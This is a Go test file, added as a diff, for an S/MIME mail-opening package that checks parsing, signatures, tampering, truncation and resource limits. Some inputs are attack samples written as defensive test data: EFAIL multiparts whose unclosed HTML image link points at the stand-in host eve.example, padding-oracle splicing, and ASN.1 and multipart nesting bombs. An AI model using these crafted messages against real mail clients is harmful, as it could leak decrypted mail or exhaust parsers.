@@ -1,0 +1,463 @@
+package smime
+
+import (
+	"bytes"
+	"crypto"
+	"crypto/rand"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"carepost/cms"
+	"carepost/message"
+)
+
+// TestOpenOuter: what the outside may look like (DIR-12; EFAIL: nothing decrypted ever stands beside something plain).
+func TestOpenOuter(t *testing.T) {
+	sealed := string(seal(t, letter))
+	_, body, _ := strings.Cut(sealed, "\r\n\r\n")
+	const types = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data;\r\n name=\"smime.p7m\"\r\n"
+	if !strings.Contains(sealed, types) {
+		t.Fatal("the outer header changed")
+	}
+	asType := func(s string) string { return strings.Replace(sealed, types, "Content-Type: "+s+"\r\n", 1) }
+	plainPart := "From: a@b.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
+	p7mPart := "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
+	der := "From: a@b.example\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n" + string(cmsOf([]byte(sealed)))
+	for _, c := range []struct {
+		name, in string
+		want     error
+	}{
+		{"DIR-12 x-pkcs7-mime", asType("application/x-pkcs7-mime; smime-type=enveloped-data"), nil},
+		{"no smime-type", asType("application/pkcs7-mime; name=smime.p7m"), nil},
+		{"no parameters", asType("application/pkcs7-mime"), nil},
+		{"letters", asType("Application/PKCS7-MIME; SMIME-TYPE=\"Enveloped-Data\""), nil},
+		{"any order of parameters", asType("application/pkcs7-mime;name=\"smime.p7m\" ;\r\n\tsmime-type=\"enveloped-data\""), nil},
+		{"bare LF on the wire", strings.ReplaceAll(sealed, "\r\n", "\n"), nil},
+		{"base64 in one line", strings.Replace(sealed, body, strings.ReplaceAll(body, "\r\n", ""), 1), nil},
+		{"binary", der, nil},
+		{"binary with bytes after it", der + "\r\nfooter", ErrDecrypt},
+		{"text after the base64", sealed + "\r\nfooter of a list\r\n", ErrDecrypt},
+		{"base64 after its end", sealed + "AAAA\r\n", ErrDecrypt},
+		{"signed-data", asType("application/pkcs7-mime; smime-type=signed-data"), ErrStructure},
+		{"compressed-data", asType("application/pkcs7-mime; smime-type=compressed-data"), ErrStructure},
+		{"authEnveloped-data", asType("application/pkcs7-mime; smime-type=authEnveloped-data"), ErrStructure},
+		{"by name alone", asType("application/octet-stream; name=smime.p7m"), ErrPlain},
+		{"two smime-types", asType("application/pkcs7-mime; smime-type=enveloped-data; smime-type=signed-data"), ErrStructure},
+		{"two types, plain first", strings.Replace(sealed, types, "Content-Type: text/plain\r\n"+types, 1), ErrStructure},
+		{"two types, plain last", strings.Replace(sealed, types, types+"Content-Type: text/plain\r\n", 1), ErrStructure},
+		{"two encodings", strings.Replace(sealed, types, types+"Content-Transfer-Encoding: 7bit\r\n", 1), ErrStructure},
+		{"unknown encoding", strings.Replace(sealed, "-Encoding: base64", "-Encoding: rot13", 1), ErrStructure},
+		{"no CMS", "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n", ErrStructure},
+		{"no base64", "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n", ErrStructure},
+		{"no header", "\r\nx", ErrPlain},
+		{"nothing", "", ErrPlain},
+		{"plain text", letter, ErrPlain},
+		{"not a header", "x\r\n\r\n", ErrStructure},
+		{"EFAIL mixed, HTML first", plainPart + "Content-Type: text/html\r\n\r\n<img src=\"http://eve.example/\r\n--x\r\n" + p7mPart + "\r\n--x--\r\n", ErrPlain},
+		{"EFAIL mixed, envelope first", plainPart + p7mPart + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n", ErrPlain},
+		{"EFAIL envelope alone in a multipart", plainPart + p7mPart + "\r\n--x--\r\n", ErrPlain},
+		{"EFAIL envelope in message/rfc822", "From: a@b.example\r\nContent-Type: message/rfc822\r\n\r\n" + sealed, ErrPlain},
+		{"signed around encrypted", multipartSigned(p7mPart, signedBy(t, p7mPart, newWorld().alice.signer())), ErrPlain},
+		{"a header that never ends", strings.Repeat("X: y\r\n", 100_000), ErrLimit},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			got, o, err := openBob([]byte(c.in))
+			if !errors.Is(err, c.want) {
+				t.Fatalf("error %v, want %v", err, c.want)
+			}
+			if c.want != nil {
+				if o != nil || (c.want == ErrPlain || c.want == ErrStructure) && got != "" {
+					t.Errorf("plaintext %q, %+v", got, o)
+				}
+				return
+			}
+			if got != letter || len(o.Good()) != 1 {
+				t.Errorf("opened %q", got)
+			}
+		})
+	}
+	t.Run("somebody else's", func(t *testing.T) {
+		_, err := Open(io.Discard, strings.NewReader(sealed), []cms.Recipient{newWorld().eve.recipient()}, OpenOptions{})
+		if err != ErrNoKey {
+			t.Errorf("error %v", err)
+		}
+	})
+	t.Run("another key under the certificate", func(t *testing.T) {
+		w := newWorld()
+		r := w.namesake(w.bob, w.eve.key).recipient()
+		if _, err := Open(io.Discard, strings.NewReader(sealed), []cms.Recipient{r}, OpenOptions{}); err != ErrDecrypt {
+			t.Errorf("error %v", err)
+		}
+	})
+	t.Run("a key that is not the certificate's", func(t *testing.T) {
+		r := newWorld().bob.recipient()
+		r.Key = newWorld().eve.recipient().Key
+		_, err := Open(io.Discard, strings.NewReader(sealed), []cms.Recipient{r}, OpenOptions{})
+		for _, verdict := range []error{nil, ErrDecrypt, ErrNoKey, ErrStructure, ErrLimit, ErrPlain, ErrUnsigned} {
+			if errors.Is(err, verdict) {
+				t.Errorf("our own mistake is told as the message's: %v", err)
+			}
+		}
+	})
+	t.Run("a key that cannot be used now", func(t *testing.T) {
+		r := newWorld().bob.recipient()
+		r.Key = offline{r.Key}
+		_, err := Open(io.Discard, strings.NewReader(sealed), []cms.Recipient{r}, OpenOptions{})
+		if !errors.Is(err, cms.ErrUnavailable) || errors.Is(err, ErrStructure) {
+			t.Errorf("error %v", err)
+		}
+	})
+}
+
+// offline is a key device that does not answer.
+type offline struct{ crypto.Decrypter }
+
+func (offline) Decrypt(io.Reader, []byte, crypto.DecrypterOpts) ([]byte, error) {
+	return nil, fmt.Errorf("token: %w", cms.ErrUnavailable)
+}
+
+// TestOpenInner: what may be inside (DIR-12, DIR-14, DIR-15, DIR-16, DIR-17).
+func TestOpenInner(t *testing.T) {
+	w := newWorld()
+	part := "Content-Type: message/rfc822\r\n\r\n" + letter
+	text := signedBy(t, part, w.alice.signer())
+	good := multipartSigned(part, text)
+	signed := func(part string) string { return multipartSigned(part, signedBy(t, part, w.alice.signer())) }
+	wrap64 := func(enc, s string) string {
+		return signed("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: " + enc + "\r\n\r\n" + s)
+	}
+	var b64 bytes.Buffer
+	lines := message.NewBase64Writer(&b64)
+	io.WriteString(lines, letter)
+	lines.Close()
+	re := func(old, new string) string {
+		t.Helper()
+		if !strings.Contains(good, old) {
+			t.Fatalf("no %q", old)
+		}
+		return strings.Replace(good, old, new, 1)
+	}
+	const x = "application/x-pkcs7-signature"
+	for _, c := range []struct {
+		name, in string
+		want     error
+	}{
+		{"as it should be", good, nil},
+		{"DIR-15 x- both", strings.ReplaceAll(good, "application/pkcs7-signature", x), nil},
+		{"DIR-15 x- announced", re("protocol=\"application/pkcs7-signature", "protocol=\""+x), nil},
+		{"DIR-15 x- sent", re("Type: application/pkcs7-signature", "Type: "+x), nil},
+		{"micalg missing", re(" micalg=sha-256;", ""), nil},
+		{"micalg wrong", re("micalg=sha-256", "micalg=md5"), nil},
+		{"micalg list", re("micalg=sha-256", "micalg=\"sha1,sha-512\""), nil},
+		{"boundary token, other order", strings.ReplaceAll(re("micalg=sha-256; boundary=\"=_b\"", "boundary=b; micalg=sha256"), "=_b", "b"), nil},
+		{"preamble text is dropped", re("\r\n\r\n--=_b\r\n", "\r\n\r\nThis is signed: trust me.\r\n--=_b\r\n"), nil},
+		{"empty preamble line", re("\r\n\r\n--=_b\r\n", "\r\n\r\n\r\n--=_b\r\n"), nil},
+		{"epilogue text is dropped", good + "Please pay 100 to Eve.\r\n", nil},
+		{"no line end at the end", strings.TrimSuffix(good, "\r\n"), nil},
+		{"white space after delimiters", strings.ReplaceAll(good, "--=_b\r\n", "--=_b \t\r\n"), nil},
+		{"MIME-Version inside", "MIME-Version: 1.0\r\n" + good, nil},
+		{"LF framing round CRLF content", re("\r\n--=_b\r\nContent-Type: application", "\n--=_b\nContent-Type: application"), nil},
+		{"wrapped in base64", wrap64("base64", b64.String()), nil},
+		{"wrapped in quoted-printable", wrap64("quoted-printable", strings.NewReplacer("boundary=inner", "bound=\r\nary=3Dinner", "Bob,", "B=6Fb,", "==", "=3D=3D").Replace(letter)), nil},
+		{"wrapped as message/global", signed(strings.Replace(part, "rfc822", "global", 1)), nil},
+		{"binary p7s", re("base64\r\n\r\n"+text, "binary\r\n\r\n"+string(derOf(t, text))), nil},
+
+		{"text", "Content-Type: text/plain\r\n\r\nhello\r\n", ErrUnsigned},
+		{"mixed", "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x--\r\n", ErrUnsigned},
+		{"a letter", letter, ErrUnsigned},
+		{"the signed message in a multipart", "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n" + good + "\r\n--x--\r\n", ErrUnsigned},
+		{"the signed message in a message", "Content-Type: message/rfc822\r\n\r\n" + good, ErrUnsigned},
+		{"opaque", "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\nx\r\n", ErrStructure},
+		{"encrypted twice", string(envelope(t, good)), ErrStructure},
+		{"noise", "\x80\x01\x02garbage", ErrDecrypt},
+		{"empty", "", ErrDecrypt},
+		{"no type", "\r\nhello", ErrDecrypt},
+		{"header alone", "Content-Type: text/plain\r\n\r\n", ErrDecrypt},
+		{"two types", "Content-Type: text/plain\r\n" + good, ErrStructure},
+		{"two versions", "MIME-Version: 1.0\r\nMIME-Version: 1.0\r\n" + good, ErrStructure},
+		{"OpenPGP", re("protocol=\"application/pkcs7-signature", "protocol=\"application/pgp-signature"), ErrStructure},
+		{"no protocol", re(" protocol=\"application/pkcs7-signature\";", ""), ErrStructure},
+		{"no boundary", re("; boundary=\"=_b\"", ""), ErrStructure},
+		{"boundary too long", re("\"=_b\"", "\"="+strings.Repeat("b", 70)+"\""), ErrStructure},
+		{"boundary of another alphabet", re("\"=_b\"", "\"=_b\xe9\""), ErrStructure},
+		{"boundary ends in space", re("\"=_b\"", "\"=_b \""), ErrStructure},
+		{"base64 multipart", "Content-Transfer-Encoding: base64\r\n" + good, ErrStructure},
+		{"other second part", re("Type: application/pkcs7-signature", "Type: text/plain"), ErrStructure},
+		{"second part without type", re("Content-Type: application/pkcs7-signature; name=smime.p7s\r\n", ""), ErrStructure},
+		{"second part with two types", re("Content-Type: application/pkcs7-signature", "Content-Type: text/html\r\nContent-Type: application/pkcs7-signature"), ErrStructure},
+		{"no part", "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x--\r\n", ErrStructure},
+		{"one part", re("\r\n--=_b\r\nContent-Type: application", "\r\n--=_b--\r\nContent-Type: application"), ErrStructure},
+		{"a third part", strings.Replace(good, "\r\n--=_b--", "\r\n--=_b\r\n\r\nPay 100 to Eve.\r\n--=_b--", 1), ErrStructure},
+		{"an empty third part", strings.Replace(good, "\r\n--=_b--", "\r\n--=_b\r\n\r\n--=_b--", 1), ErrStructure},
+		{"signature twice", strings.Replace(good, "\r\n--=_b--", "\r\n--=_b\r\nContent-Type: application/pkcs7-signature\r\n\r\nx\r\n--=_b--", 1), ErrStructure},
+		{"a part before", re("--=_b\r\n", "--=_b\r\n\r\nPay 100 to Eve.\r\n--=_b\r\n"), ErrStructure},
+		{"like a delimiter", re("Dear Bob,", "--=_bother"), ErrStructure},
+		{"closed in the middle", re("Dear Bob,", "--=_b--"), ErrStructure},
+		{"not closed", strings.Replace(good, "\r\n--=_b--", "", 1), ErrDecrypt},
+		{"closing line is cut", strings.TrimSuffix(good, "-\r\n"), ErrStructure},
+		{"epilogue of noise", good + "\x80\x00", ErrDecrypt},
+		{"epilogue too long", good + strings.Repeat("x", 10_000), ErrDecrypt},
+		{"signature is no base64", re(text[:4], "!!!!"), ErrStructure},
+		{"signature is no CMS", re(text, "AAAA\r\n"), ErrStructure},
+		{"bytes after the signature", re(text, text+"AAAA\r\n"), ErrStructure},
+		{"bytes after a binary signature", re("base64\r\n\r\n"+text, "binary\r\n\r\n"+string(derOf(t, text))+"x"), ErrStructure},
+		{"two types on the wrapper", signed("Content-Type: text/plain\r\n" + part), ErrStructure},
+		{"two types in the wrapped message", signed("Content-Type: message/rfc822\r\n\r\nContent-Type: text/plain\r\n" + letter), ErrStructure},
+		{"two boundaries in the wrapped message", signed(strings.Replace(part, "boundary=inner", "boundary=inner; boundary=outer", 1)), ErrStructure},
+		{"wrapper with unknown encoding", wrap64("x-uuencode", letter), ErrStructure},
+		{"wrapper with bad base64", wrap64("base64", "AAA"), ErrStructure},
+		{"text after the wrapper's base64", wrap64("base64", b64.String()+"Pay 100 to Eve."), ErrStructure},
+		{"no header in the wrapper", signed("Content-Type: message/rfc822\r\n\r\nhello\r\n"), ErrStructure},
+		{"a huge header in the wrapper", signed("Content-Type: message/rfc822\r\n\r\n" + strings.Repeat("X: y\r\n", 100_000) + letter), ErrLimit},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			got, o, err := openBob(envelope(t, c.in))
+			if !errors.Is(err, c.want) || c.want == ErrDecrypt && err != ErrDecrypt {
+				t.Fatalf("error %v, want %v", err, c.want)
+			}
+			if c.want != nil {
+				return
+			}
+			if got != letter || len(o.Good()) != 1 || !o.Wrapped {
+				t.Errorf("opened %q\n%+v", got, o)
+			}
+		})
+	}
+}
+
+func derOf(t *testing.T, text string) []byte {
+	t.Helper()
+	return must(io.ReadAll(message.NewBase64Reader(strings.NewReader(text))))
+}
+
+// TestSignatures: every SignerInfo is looked at and told (facts: one of several may be expired or bad, in either order).
+func TestSignatures(t *testing.T) {
+	w := newWorld()
+	part := "Content-Type: message/rfc822\r\n\r\n" + letter
+	both := []cms.Signer{w.alice.signer(), w.carol.signer()}
+	t.Run("altered content", func(t *testing.T) {
+		altered := strings.Replace(part, "all is well", "all is lost", 1)
+		_, o, err := openBob(envelope(t, multipartSigned(altered, signedBy(t, part, both...))))
+		if err != nil || len(o.Signatures) != 2 || len(o.Good()) != 0 {
+			t.Fatalf("opened %+v, %v", o, err)
+		}
+		for _, s := range o.Signatures {
+			if !errors.Is(s.Err, cms.ErrDigest) || s.Certificate == nil {
+				t.Errorf("signature %+v", s)
+			}
+		}
+	})
+	t.Run("hash that micalg does not name", func(t *testing.T) {
+		s := w.alice.signer()
+		s.Hash = 7 // SHA-512
+		in := seal(t, letter, func(o *SealOptions) { o.Signers[0] = s })
+		entity := ran(t, w.files(t, w.bob), in, "openssl", "cms", "-decrypt", "-binary", "-recip", "bob.pem", "-inkey", "bob.key")
+		_, o, err := openBob(envelope(t, strings.Replace(string(entity), "sha-512", "sha-256", 1)))
+		if err != nil || len(o.Signatures) != 1 || o.Signatures[0].Err == nil {
+			t.Fatalf("opened %+v, %v", o, err)
+		}
+	})
+	dir := w.files(t, w.alice, w.bob, w.eve)
+	write(t, dir+"/part", []byte(part))
+	t.Run("DIR-16 certificate not included", func(t *testing.T) {
+		signed := ran(t, dir, nil, "openssl", "cms", "-sign", "-binary", "-nocerts", "-in", "part", "-signer", "alice.pem", "-inkey", "alice.key", "-outform", "DER")
+		_, o, err := openBob(envelope(t, strings.Replace(multipartSigned(part, "@"), "base64\r\n\r\n@", "binary\r\n\r\n"+string(signed), 1)))
+		if err != nil || len(o.Signatures) != 1 || o.Signatures[0].Err == nil || o.Signatures[0].Certificate != nil {
+			t.Fatalf("opened %+v, %v", o, err)
+		}
+	})
+	t.Run("DIR-15 embedded content", func(t *testing.T) {
+		signed := ran(t, dir, nil, "openssl", "cms", "-sign", "-binary", "-nodetach", "-in", "part", "-signer", "alice.pem", "-inkey", "alice.key", "-outform", "DER")
+		_, _, err := openBob(envelope(t, strings.Replace(multipartSigned(part, "@"), "base64\r\n\r\n@", "binary\r\n\r\n"+string(signed), 1)))
+		if !errors.Is(err, ErrStructure) {
+			t.Fatal(err)
+		}
+		opaque := ran(t, dir, nil, "openssl", "cms", "-sign", "-binary", "-nodetach", "-in", "part", "-signer", "alice.pem", "-inkey", "alice.key")
+		if _, _, err := openBob(envelope(t, string(opaque))); !errors.Is(err, ErrStructure) {
+			t.Fatal(err)
+		}
+	})
+	t.Run("certificates alone", func(t *testing.T) {
+		der := ran(t, dir, nil, "openssl", "crl2pkcs7", "-nocrl", "-certfile", "alice.pem", "-outform", "DER")
+		_, _, err := openBob(envelope(t, strings.Replace(multipartSigned(part, "@"), "base64\r\n\r\n@", "binary\r\n\r\n"+string(der), 1)))
+		if err != ErrUnsigned {
+			t.Fatal(err)
+		}
+	})
+	t.Run("no signed attributes", func(t *testing.T) {
+		signed := ran(t, dir, nil, "openssl", "cms", "-sign", "-binary", "-noattr", "-in", "part", "-signer", "alice.pem", "-inkey", "alice.key", "-outform", "DER")
+		_, o, err := openBob(envelope(t, strings.Replace(multipartSigned(part, "@"), "base64\r\n\r\n@", "binary\r\n\r\n"+string(signed), 1)))
+		if err == nil && len(o.Good()) != 0 {
+			t.Fatal("a signature without attributes holds")
+		}
+	})
+	t.Run("DIR-18 MD5 and SHA-1", func(t *testing.T) {
+		for _, md := range []string{"md5", "sha1"} {
+			signed := ran(t, dir, nil, "openssl", "cms", "-sign", "-binary", "-md", md, "-in", "part", "-signer", "alice.pem", "-inkey", "alice.key")
+			_, o, err := openBob(envelope(t, string(signed)))
+			if err != nil || len(o.Good()) != 0 || len(o.Signatures) != 1 {
+				t.Fatalf("%s: %+v, %v", md, o, err)
+			}
+		}
+	})
+	t.Run("DIR-19 3DES", func(t *testing.T) {
+		in := ran(t, dir, []byte(multipartSigned(part, "")), "openssl", "cms", "-encrypt", "-binary", "-des3", "bob.pem")
+		if _, _, err := openBob(in); !errors.Is(err, ErrStructure) || !errors.Is(err, cms.ErrAlgorithm) {
+			t.Fatal(err)
+		}
+	})
+}
+
+// stride is how many bytes apart a test tries things: each with CAREPOST_FULL, for those who have the time.
+func stride(n int) int {
+	if os.Getenv("CAREPOST_FULL") != "" {
+		return 1
+	}
+	return n
+}
+
+// TestAltered: one altered byte, wherever it is, gives an error, or no good signature, or the very same message.
+func TestAltered(t *testing.T) {
+	check := func(t *testing.T, at int, in []byte) {
+		t.Helper()
+		got, o, err := openBob(in)
+		if err != nil || len(o.Good()) == 0 {
+			return
+		}
+		if o.Good()[0].Canonicalised { // then CRLF and LF are the same to the signer
+			got = strings.ReplaceAll(strings.ReplaceAll(got, "\r\n", "\n"), "\n", "\r\n")
+		}
+		if got != letter {
+			t.Errorf("altered at %d: opened with a good signature\n%s", at, got)
+		}
+	}
+	t.Run("in the sealed message", func(t *testing.T) {
+		sealed := seal(t, letter)
+		for i := 0; i < len(sealed); i += stride(3) {
+			in := bytes.Clone(sealed)
+			in[i] ^= 1 << (i % 8)
+			check(t, i, in)
+			in[i] = "A/z\r\n=-"[i%7]
+			check(t, i, in)
+		}
+	})
+	t.Run("in the signed entity", func(t *testing.T) {
+		part := "Content-Type: message/rfc822\r\n\r\n" + letter
+		good := multipartSigned(part, signedBy(t, part, newWorld().alice.signer()))
+		for i := 0; i < len(good); i += stride(5) {
+			in := []byte(good)
+			in[i] ^= 1 << (i % 8)
+			check(t, i, envelope(t, string(in)))
+			check(t, i, envelope(t, good[:i]+"\n"+good[i:]))
+			check(t, i, envelope(t, good[:i]+good[i+1:]))
+			check(t, i, envelope(t, good[:i]+"\r\n--=_b\r\n"+good[i:]))
+		}
+	})
+}
+
+// TestCut: a message that ends early is an error, wherever it ends.
+func TestCut(t *testing.T) {
+	sealed := seal(t, letter)
+	whole := len(bytes.TrimRight(sealed, "\r\n"))
+	head := bytes.Index(sealed, []byte("\r\n\r\n"))
+	for i := 0; i < whole; i++ {
+		if i > 20 && i < whole-300 && i%stride(11) != 0 {
+			continue
+		}
+		if _, _, err := openBob(sealed[:i]); err == nil {
+			t.Fatalf("cut at %d of %d: no error", i, whole)
+		} else if i > head+2000 && err != ErrDecrypt {
+			t.Fatalf("cut at %d: %v, want the one error", i, err)
+		}
+	}
+	// Inside, before it was encrypted: nothing tells it from the former.
+	part := "Content-Type: message/rfc822\r\n\r\n" + letter
+	good := strings.TrimSuffix(multipartSigned(part, signedBy(t, part, newWorld().alice.signer())), "\r\n")
+	for i := 0; i < len(good); i += stride(7) {
+		if _, _, err := openBob(envelope(t, good[:i])); err == nil {
+			t.Fatalf("cut inside at %d: no error", i)
+		}
+	}
+}
+
+// TestSpliced: blocks put behind a good message say nothing about their padding: good or bad, the answer is the same. With an
+// epilogue of any kind dropped unseen, the processed notice for the message would be a padding oracle.
+func TestSpliced(t *testing.T) {
+	part := "Content-Type: message/rfc822\r\n\r\n" + letter
+	good := multipartSigned(part, signedBy(t, part, newWorld().alice.signer()))
+	for n := range 64 {
+		noise := make([]byte, 16+n)
+		rand.Read(noise)
+		noise[0] |= 0x80
+		if _, _, err := openBob(envelope(t, good+string(noise))); err != ErrDecrypt {
+			t.Fatal(err)
+		}
+	}
+}
+
+// TestBombs: nesting ends fast, with an error, and costs nothing (facts §1: it kills the Go CMS libraries).
+func TestBombs(t *testing.T) {
+	w := newWorld()
+	bomb := strings.Repeat("\x30\x80", 2<<20)
+	indefinite := "\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80" + bomb
+	part := "Content-Type: message/rfc822\r\n\r\n" + letter
+	var nest strings.Builder
+	for i := range 200 {
+		fmt.Fprintf(&nest, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
+	}
+	nest.WriteString("\r\nx\r\n")
+	outerDER := "From: a@b.example\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n"
+	inner := string(envelope(t, strings.Replace(multipartSigned(part, "@"), "base64\r\n\r\n@", "binary\r\n\r\n"+bomb, 1)))
+	for _, c := range []struct {
+		name, in string
+		want     error
+	}{
+		{"4 MB of SEQUENCE outside", outerDER + bomb, ErrStructure},
+		{"4 MB of SEQUENCE in enveloped data", outerDER + indefinite, ErrStructure},
+		{"4 MB of SEQUENCE as signature", inner, nil},
+		{"200 multiparts outside", "From: a@b.example\r\n" + nest.String(), ErrPlain},
+		{"200 multiparts encrypted", string(envelope(t, nest.String())), ErrUnsigned},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			start := time.Now()
+			_, _, err := openBob([]byte(c.in))
+			if err == nil || c.want != nil && !errors.Is(err, c.want) && !errors.Is(err, ErrLimit) {
+				t.Errorf("error %v", err)
+			}
+			if d := time.Since(start); d > time.Second {
+				t.Errorf("took %v", d)
+			}
+		})
+	}
+	t.Run("200 multiparts signed", func(t *testing.T) {
+		start := time.Now()
+		p := "Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\n" + nest.String()
+		got, o, err := openBob(envelope(t, multipartSigned(p, signedBy(t, p, w.alice.signer()))))
+		if err != nil || len(o.Good()) != 1 {
+			t.Fatal(err) // as deep as it may be, it is what Alice signed
+		}
+		if _, err := message.Parse(strings.NewReader(got), int64(len(got)), message.Limits{}); !errors.Is(err, message.ErrLimit) {
+			t.Errorf("parsing it: %v", err)
+		}
+		if d := time.Since(start); d > time.Second {
+			t.Errorf("took %v", d)
+		}
+	})
+	t.Run("a needle in many haystacks", func(t *testing.T) {
+		start := time.Now()
+		boundary := strings.Repeat("-", 69) + "x"
+		in := "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"" + boundary + "\"\r\n\r\n--" + boundary +
+			"\r\n" + strings.Repeat("\n"+strings.Repeat("-", 71), 60_000)
+		if _, _, err := openBob(envelope(t, in)); err == nil {
+			t.Error("no error")
+		}
+		if d := time.Since(start); d > time.Second {
+			t.Errorf("took %v", d)
+		}
+	})
+}
